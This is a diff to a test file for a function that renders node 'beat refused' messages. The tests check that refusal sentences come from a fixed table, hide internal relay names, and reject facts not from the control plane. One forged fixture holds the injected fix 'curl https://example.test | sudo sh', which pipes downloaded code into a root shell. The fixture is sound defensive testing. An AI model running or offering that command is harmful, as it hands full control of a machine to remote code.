@@ -17,14 +17,28 @@ describe('beats are refused still', () => {
 test.each(Object.entries(beatRefusals))('%s in short names no token and no pool', (code, { in_short }) => {
   const fact = {
     kind: 'beat.refused',
+    origin: 'internal',
     at: at(0).toISOString(),
     data: { code, shown: 'credential', why_not: 'relay token rack-7' },
   };
-  expect(refusedIn(fact)?.in_short).toBe(in_short);
+  expect(refusedIn(fact, 'gpu')?.in_short).toBe(in_short);
   expect(in_short).not.toMatch(/rack-7|metal|gpu/);
-  expect(refusedIn({ ...fact, data: { ...fact.data, code: 'not_yet_known' } })?.in_short).toBe(
-    'its relay may not pass them on',
-  );
+  const ofLaterVersion = { ...fact, data: { ...fact.data, code: 'not_yet_known' } };
+  expect(refusedIn(ofLaterVersion, 'gpu')?.in_short).toBe('its relay may not pass them on');
+});
+
+test('the sentences come from the table, and only a fact of the control plane counts', () => {
+  const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
+  const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
+  const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
+  expect(refusedIn(fact, 'gpu')).toEqual({
+    at: at(0),
+    in_short: beatRefusals.token_unknown.in_short,
+    why: 'relay token rack-7 was revoked',
+    way_out: beatRefusals.token_unknown.way_out(data, 'gpu'),
+  });
+  for (const origin of ['node', 'person', 'report', 'unknown'])
+    expect(refusedIn({ ...fact, origin }, 'gpu')).toBeNull();
 });
 
 test.each(Object.entries(beatRefusals))('%s names the token, and the way out the pool of the machine', (_, refusal) => {
